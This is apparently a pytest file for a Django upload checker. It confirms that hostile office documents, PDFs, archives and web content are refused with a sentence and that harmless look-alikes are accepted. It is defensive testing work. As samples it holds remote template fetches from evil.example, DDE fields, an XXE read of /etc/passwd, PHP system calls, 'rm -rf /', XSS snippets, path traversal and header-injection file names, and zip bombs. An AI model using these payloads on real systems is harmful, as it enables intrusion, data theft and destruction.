"""What is taken is told by its content; each refusal says what to do, and has a control that the same without it is taken."""

import io
import time
import zlib
from datetime import UTC, datetime

import pytest
from django.core.exceptions import ValidationError

from common.files.file_types import KINDS, PDF, TEXT, clean_name, detect_type
from common.files.office_checks import PIECE
from common.pdf import make_pdf
from tests.common import shared_files as make
from tests.common.sheet_files import rezipped, workbook
from tests.common.test_pdf import PLAIN
from tests.pace import is_within

MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
BINARY_TYPE = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
DOCX = make.OFFICE + "wordprocessingml.document"


def type_of(content: bytes) -> str:
    return detect_type(io.BytesIO(content)).mime


def refusal(content: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        type_of(content)
    (sentence,) = refused.value.messages
    return sentence


def test_the_list_is_what_the_tests_know():
    assert set(KINDS) == {mime for mime, _make in make.WHOLE.values()}


@pytest.mark.parametrize("ending", make.WHOLE)
def test_whole_file_is_told_by_its_content(ending):
    mime, made = make.WHOLE[ending]
    assert (type_of(made()), KINDS[mime].endings[0]) == (mime, ending)


def test_documents_of_our_own_are_taken(tmp_path):
    template = tmp_path / "plain.typ"
    template.write_text(PLAIN)
    assert type_of(make_pdf(template, {"words": "Ђорђевић"}, at=datetime(2026, 11, 12, tzinfo=UTC))) == PDF


MACROS, OBJECTS, DAMAGED, FETCHES, LARGE, PASSWORD = (
    "holds macros or scripts", "holds objects of other programs", "document is damaged", "from another computer",
    "unpacks to more", "protected by a password",
)  # fmt: skip
WEB, SVG, NOT_TAKEN, ARCHIVE, TWO = (
    "a web page or XML",
    "an SVG drawing",
    "kind of file is not taken",
    "an archive",
    "two kinds of file in one",
)


def outside(kind: str, target: str) -> bytes:
    return make.with_part("word/_rels/document.xml.rels", make.relations((kind, target), outside=True))


def field(runs: str) -> bytes:
    ends = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return make.with_part("word/footnotes.xml", f"<w:p>{ends[0]}{runs}{ends[1]}</w:p>")


def typed(told_type: str) -> bytes:
    types = make.content_types(
        "word/document.xml", make.OFFICE + "wordprocessingml.document.main+xml", ("word/x.bin", told_type)
    )
    return make.with_part("[Content_Types].xml", types)


HOSTILE = {
    "macros": (lambda: make.with_part("word/vbaProject.bin"), MACROS),
    "macros under another name": (lambda: typed("application/vnd.ms-office.vbaProject"), MACROS),
    "macro document": (
        lambda: make.with_part("[Content_Types].xml", make.content_types("word/document.xml", MACRO_TYPE)),
        MACROS,
    ),
    "macros by relation": (
        lambda: make.with_part("word/_rels/document.xml.rels", make.relations(("vbaProject", "x.bin"))), MACROS,
    ),
    "active x": (lambda: make.with_part("word/activeX/activeX1.xml"), MACROS),
    "macros in a workbook": (lambda: rezipped(workbook(["x"]), {"xl/vbaProject.bin": b"x"}), MACROS),
    "old macro sheet": (lambda: rezipped(workbook(["x"]), {"xl/macrosheets/intlMacrosheet1.xml": b"x"}), MACROS),
    "dde in a workbook": (
        lambda: rezipped(workbook(["x"]), {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
        MACROS,
    ),
    "object": (lambda: make.with_part("word/embeddings/oleObject1.bin"), OBJECTS),
    "object by relation": (
        lambda: make.with_part("word/_rels/document.xml.rels", make.relations(("oleObject", "media/x"))), OBJECTS,
    ),
    "program within": (lambda: make.with_part("word/embeddings/setup.exe"), OBJECTS),
    "macros within a workbook within": (
        lambda: make.with_part("word/embeddings/a.xlsx", rezipped(workbook(["x"]), {"xl/vbaProject.bin": b"x"})), MACROS,
    ),
    "document within a document within": (
        lambda: make.with_part("word/embeddings/a.docx", make.with_part("word/embeddings/b.docx", make.docx())), OBJECTS,
    ),
    "template from elsewhere": (lambda: outside("attachedTemplate", "https://evil.example/t.dotm"), FETCHES),
    "template from a share": (lambda: outside("attachedTemplate", r"file:///\\evil.example\share\t.dotm"), FETCHES),
    "picture from a share": (lambda: outside("image", "//evil.example/x.png"), FETCHES),
    "picture from elsewhere": (lambda: outside("image", "http://evil.example/x.png"), FETCHES),
    "object from elsewhere": (lambda: outside("oleObject", "http://evil.example/x"), OBJECTS),
    "page within": (lambda: outside("frame", "http://evil.example/x"), OBJECTS),
    "template": (lambda: make.zipped(make.docx_parts("x", "template.main+xml")), "is a template"),
    "binary workbook": (
        lambda: rezipped(workbook(["x"]), {"[Content_Types].xml": make.content_types("xl/workbook.bin", BINARY_TYPE).encode()}),
        MACROS,
    ),
    "two main parts": (
        lambda: make.with_part("[Content_Types].xml", make.content_types(
            "word/document.xml", make.OFFICE + "wordprocessingml.document.main+xml",
            ("xl/workbook.xml", make.OFFICE + "spreadsheetml.sheet.main+xml"))),
        DAMAGED,
    ),
    "entities": (
        lambda: make.with_part("[Content_Types].xml", '<!DOCTYPE t [<!ENTITY a "b">]><Types>&a;</Types>'), DAMAGED,
    ),
    "field that starts a program": (lambda: field("<w:r><w:instrText>DDEAUTO c:\\x.exe</w:instrText></w:r>"), MACROS),
    "field in several runs": (
        lambda: field('<w:instrText xml:space="preserve"> "d</w:instrText></w:r><w:r><w:instrText>De</w:instrText></w:r><w:r>'
                      "<w:instrText> cmd x</w:instrText>"), MACROS,
    ),
    "simple field": (lambda: make.with_part("word/header1.xml", '<w:p><w:fldSimple w:instr=" DDE cmd x"/></w:p>'), MACROS),
    "field across the edge of a piece": (
        lambda: make.with_part("word/footer1.xml", " " * (PIECE - 12) + '<w:instrText>DDEAUTO x</w:instrText>'), MACROS,
    ),
    "document type": (
        lambda: make.with_part("word/document.xml", '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'),
        DAMAGED,
    ),
    "entry that holds more than it says": (make.lying_size, DAMAGED),
    "entry that holds more, with the sum of its beginning": (make.lying_size_and_sum, DAMAGED),
    "entry that holds less than it says": (lambda: make.announced_bomb(50_000), DAMAGED),
    "damaged entry": (make.damaged_entry, DAMAGED),
    "encrypted office, its directory far behind": (make.locked_office, PASSWORD),
    "encrypted entries": (make.encrypted_zip, PASSWORD),
    "encrypted office": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), PASSWORD),
    "bomb": (make.zip_bomb, LARGE),
    "list of a million relations": (lambda: make.with_part("x/_rels/a.rels", b"<T>" + b"<a/>" * 900_000 + b"</T>"), LARGE),
    "bomb that says so": (make.announced_bomb, LARGE),
    "bomb of letters": (make.tight_xml, LARGE),
    "many entries": (make.many_entries, LARGE),
    "directory of 100 MB": (make.false_directory, LARGE),
    "entry named upwards": (lambda: make.with_part("../../etc/x"), DAMAGED),
    "entry named twice": (lambda: make.with_part("WORD/document.xml"), DAMAGED),
    "bytes before the zip": (lambda: b"PK\x03\x04" + bytes(60) + make.docx(), DAMAGED),
    "bytes behind the zip": (lambda: make.docx() + b"<script>", DAMAGED),
    "cut zip": (lambda: make.docx()[:-300], DAMAGED),
    "plain zip": (lambda: make.zipped({"a.txt": "x"}), ARCHIVE),
    "pages": (lambda: make.zipped({"Index/Document.iwa": "x"}), "Export it as a PDF"),
    "epub": (lambda: make.zipped({"mimetype": "application/epub+zip", "content.xml": "x"}), NOT_TAKEN),
    "jar": (lambda: make.zipped({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}), ARCHIVE),
    "open document with macros": (lambda: make.opened(**{"Basic/Standard/Module1.xml": "x"}), MACROS),
    "open document with python": (lambda: make.opened(**{"Scripts/python/x.py": "x"}), MACROS),
    "open document with a listener": (
        lambda: make.opened(body='<text:p><script:event-listener xlink:href="vnd.sun.star.script:x"/></text:p>'), MACROS,
    ),
    "open document with dde": (lambda: make.opened(body='<office:DDE-source office:dde-application="x"/>'), MACROS),
    "open document with an applet": (lambda: make.opened(body="<draw:applet />"), MACROS),
    "open document with an object": (
        lambda: make.opened(**{"META-INF/manifest.xml": '<m><e media-type="application/vnd.sun.star.oleobject"/></m>'}), OBJECTS,
    ),
    "open document with a password": (
        lambda: make.opened(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"}), PASSWORD,
    ),
    "open template": (lambda: make.zipped({**make.open_parts(), "mimetype": make.OPEN + "text-template"}), "is a template"),
    "open drawing": (lambda: make.zipped({**make.open_parts(), "mimetype": make.OPEN + "graphics"}), NOT_TAKEN),
    "encrypted pdf": (lambda: make.pdf_with(b"4 0 obj << /Encrypt 5 0 R >> endobj"), PASSWORD),
    "pdf with a script": (lambda: make.pdf_with(b"4 0 obj << /S /JavaScript /JS (x) >> endobj"), "can do more than be read"),
    "pdf with a packed script": (lambda: make.pdf_with(make.packed_object(b"<< /S /Launch >>")), "can do more than be read"),
    "pdf with a file": (lambda: make.pdf_with(b"4 0 obj << /Type /EmbeddedFile >> endobj"), "can do more than be read"),
    "cut pdf": (lambda: make.pdf()[:-3000], "damaged or not complete"),
    "pdf not at the beginning": (lambda: b"GET / \n" + make.pdf(), "stands before the beginning"),
    "page before a pdf": (lambda: b"<html><script>x</script>" + make.pdf(), "stands before the beginning"),
    "archive behind a pdf": (lambda: make.pdf() + make.zipped({"a": "x"}), TWO),
    "archive behind a video": (lambda: make.mp4(make.box(b"free", make.zipped({"a": "x"}))), TWO),
    "archive behind sound": (lambda: make.mp3(60) + make.zipped({"a": "x"}), TWO),
    "archive behind a text": (lambda: b"text\n" + make.zipped({"a": "x"}, stored=("a",)), NOT_TAKEN),
    "web page": (lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>", WEB),
    "web page behind spaces and marks": (lambda: b"\xef\xbb\xbf\r\n \t<HTML>\n", WEB),
    "web page behind invisible signs": (lambda: "\u200b\u2060<script>alert(1)</script>".encode(), WEB),
    "web page in utf-16": (lambda: "<script>alert(1)</script>".encode("utf-16"), WEB),
    "part of a web page": (lambda: b"<img src=x onerror=alert(1)>", WEB),
    "xml": (lambda: b'<?xml version="1.0"?><a/>', WEB),
    "php": (lambda: b"<?php system('x'); ?>", WEB),
    "svg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', SVG),
    "svg as xml": (lambda: b'<?xml version="1.0"?>\n<!-- x -->\n<svg/>', SVG),
    "old word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old Office"),
    "rich text": (lambda: b"{\\rtf1 x}", "RTF document"),
    "program": (lambda: b"MZ\x90\x00" + bytes(100), "is a program"),
    "linux program": (lambda: b"\x7fELF\x02\x01\x01" + bytes(100), "is a program"),
    "script": (lambda: b"#!/bin/sh\nrm -rf /\n", "is a program"),
    "gif": (lambda: make.picture("GIF"), "Pictures of this kind"),
    "tiff": (lambda: make.picture("TIFF"), "Pictures of this kind"),
    "heic": (lambda: make.box(b"ftyp", b"heic" + bytes(4) + b"mif1"), "Pictures of this kind"),
    "quicktime": (lambda: make.mp4(brand=b"qt  "), "Videos of this kind"),
    "webm": (lambda: b"\x1aE\xdf\xa3\x01" + bytes(50), "Videos of this kind"),
    "wav": (lambda: b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(50), "Sounds of this kind"),
    "rar": (lambda: b"Rar!\x1a\x07\x01\x00" + bytes(50), ARCHIVE),
    "video of an old telephone": (lambda: make.mp4(brand=b"3gp4"), "Videos of this kind"),
    "other sound": (lambda: b"\xff\xf1\x50\x80" + bytes(500), "Sounds of this kind"),
    "cut video": (lambda: make.mp4()[:-100], "damaged or not complete"),
    "only the beginning of a video": (lambda: make.box(b"ftyp", b"isom" + bytes(4)) + bytes(100), "damaged or not complete"),
    "page that calls itself sound": (lambda: b"ID3\x04\x00\x00\x00\x00\x00\x00<html><script>", "damaged or not complete"),
    "two frames of sound and a page": (lambda: make.mp3(2) + b"<html><script>", "damaged or not complete"),
    "empty": (lambda: b"", "file is empty"),
    "only spaces": (lambda: b" \r\n\x00", "file is empty"),
    "random bytes": (lambda: bytes(range(1, 255)) * 20, NOT_TAKEN),
    "text with a NUL": (lambda: b"x" * 300_000 + b"\x00" + b"y" * 10, NOT_TAKEN),
    "half a letter of utf-16": (lambda: b"\xff\xfea\x00b\x00" * 3 + b"\x00\xd8a\x00", NOT_TAKEN),
    "text of 21 MB": (lambda: b"a " * 10_500_000, "larger than 20 MB"),
}  # fmt: skip


# Making these takes longer than looking at them.
SLOW = {"bomb", "text of 21 MB", "bomb of letters", "many entries"}


@pytest.mark.parametrize("case", [pytest.param(c, marks=[pytest.mark.slow] if c in SLOW else []) for c in HOSTILE])
def test_hostile_file_is_refused_with_a_sentence(case):
    made, sentence = HOSTILE[case]
    content = made()
    began = time.monotonic()
    assert sentence in refusal(content)
    assert is_within(time.monotonic() - began, 2)


HARMLESS = {
    "fields that only count and point": (
        lambda: field("<w:r><w:instrText> HYPERLINK http://a.example/ DDE </w:instrText></w:r><w:r><w:t>DDEAUTO</w:t></w:r>"), DOCX,
    ),
    "link to click on": (lambda: outside("hyperlink", "https://unwomen.org/"), DOCX),
    "template on the own disk": (lambda: outside("attachedTemplate", "file:///C:\\Users\\ana\\Letter.dotx"), DOCX),
    "video to start": (lambda: outside("video", "https://www.youtube.com/embed/x"), DOCX),
    "workbook behind a chart": (lambda: make.with_part("word/embeddings/Workbook1.xlsx", workbook(["x", 1])), DOCX),
    "show": (
        lambda: make.zipped({**make.pptx_parts(), "[Content_Types].xml": make.content_types(
            "ppt/presentation.xml", make.OFFICE + "presentationml.slideshow.main+xml")}),
        make.OFFICE + "presentationml.presentation",
    ),
    "large picture packed well": (lambda: make.with_part("word/media/a.bmp", bytes(30_000_000)), DOCX),
    "link in a workbook": (
        lambda: rezipped(workbook(["x"]), {"xl/externalLinks/externalLink1.xml": b"<externalLink><externalBook/></externalLink>"}),
        make.OFFICE + "spreadsheetml.sheet",
    ),
    "text that speaks of scripts": (lambda: b"Never type <script>alert(1)</script> here.", TEXT),
    "text that begins like a program": (lambda: b"MZ Crne Gore", TEXT),
    "text with a smaller sign": (lambda: b"< 5 minutes", TEXT),
    "cyrillic text of windows": (lambda: "Вежба о родној равноправности".encode("cp1251"), TEXT),
    "utf-16 text": (lambda: "Вежба\r\n".encode("utf-16"), TEXT),
    "long cyrillic text": (lambda: "Вежба о родној ".encode() * 20_000, TEXT),
    "long utf-16 text": (lambda: ("Вежба о родној " * 20_000).encode("utf-16"), TEXT),
    "pdf with harmless words": (lambda: make.pdf_with(b"4 0 obj << /S /GoTo /Title (JavaScript) >> endobj"), PDF),
    "sound without a description": (make.mp3, "audio/mpeg"),
    "sound with one at its end": (lambda: make.mp3() + b"TAG" + bytes(125), "audio/mpeg"),
    "video in parts": (lambda: make.box(b"ftyp", b"iso5" + bytes(4)) + make.box(b"moov") + make.box(b"moof") + make.box(b"mdat"), "video/mp4"),
}  # fmt: skip


@pytest.mark.parametrize("case", HARMLESS)
def test_control_what_only_looks_hostile_is_taken(case):
    made, mime = HARMLESS[case]
    assert type_of(made()) == mime


def test_word_across_the_edge_of_a_piece_is_found():
    """A large PDF is looked at in pieces of a megabyte: what stands across two of them counts as well."""
    word = b"4 0 obj << /S /JavaScript >> endobj"
    for at in range(1024 * 1024 - 40, 1024 * 1024 + 2):
        filling = b"%" + b"x" * (at - len(b"%PDF-1.7\n") - 2) + b"\n"
        whole = b"%PDF-1.7\n" + filling + word + b"\nstartxref\n9\n%%EOF\n"
        assert "can do more" in refusal(whole), at
        assert type_of(whole.replace(b"JavaScript", b"JavaScribe")) == PDF


def test_packed_object_across_the_edge_of_a_piece_is_found():
    for back in (1, 4, 7, 8, 60, 200):
        filling = b"%" + b"x" * (1024 * 1024 - len(b"%PDF-1.7\n") - 2 - back) + b"\n"
        whole = b"%PDF-1.7\n" + filling + make.packed_object(b"<< /S /Launch >>") + b"\nstartxref\n9\n%%EOF\n"
        assert "can do more" in refusal(whole), back


@pytest.mark.parametrize(
    ("name", "mime", "expected"),
    [
        ("Вежба 1.pdf", PDF, "Вежба 1.pdf"),
        ("report.pdf.exe", PDF, "report.pdf"),
        ("photo.png", "image/jpeg", "photo.jpg"),
        ("photo.JPEG", "image/jpeg", "photo.jpeg"),
        ("..\\..\\etc\\passwd", TEXT, "passwd.txt"),
        ("../../.htaccess", TEXT, "htaccess.txt"),
        ("spisak.csv", TEXT, "spisak.csv"),
        ("lekcija 1.5", PDF, "lekcija 1.5.pdf"),
        ("annexe\u202efdp.exe", PDF, "annexefdp.pdf"),
        ('a"b\r\nSet-Cookie: x;.pdf', PDF, "a-b Set-Cookie- x-.pdf"),
        ("", PDF, "file.pdf"),
        (".pdf", PDF, "file.pdf"),
        ("c\u030cas.pdf", PDF, "čas.pdf"),
        ("x" * 300 + ".pdf", PDF, "x" * 120 + ".pdf"),
    ],
)
def test_name_fits_the_content_and_holds_nothing_else(name, mime, expected):
    assert clean_name(name, KINDS[mime]) == expected


DEAR = {
    "names written in numbers": b"#41" * 2_500_000,
    "names before many streams": b"/ObjStm " + (b"stream\n" + b"#41" * 130) * 10_000,
    "streams that unpack to much": (
        b"/ObjStm 1 0 obj << /Filter /FlateDecode >>\nstream\n" + zlib.compress(bytes(1_000_000)) + b"\nendstream\n"
    )
    * 2_500,
}


@pytest.mark.slow
@pytest.mark.parametrize("case", DEAR)
def test_pdf_made_to_be_dear_is_refused_before_it_is(case):
    began = time.monotonic()
    assert "too many parts" in refusal(b"%PDF-1.7\n" + DEAR[case] + b"\nstartxref\n9\n%%EOF\n")
    # 2 s where nothing else runs; without the limits the second takes more than a minute
    assert is_within(time.monotonic() - began, 20)
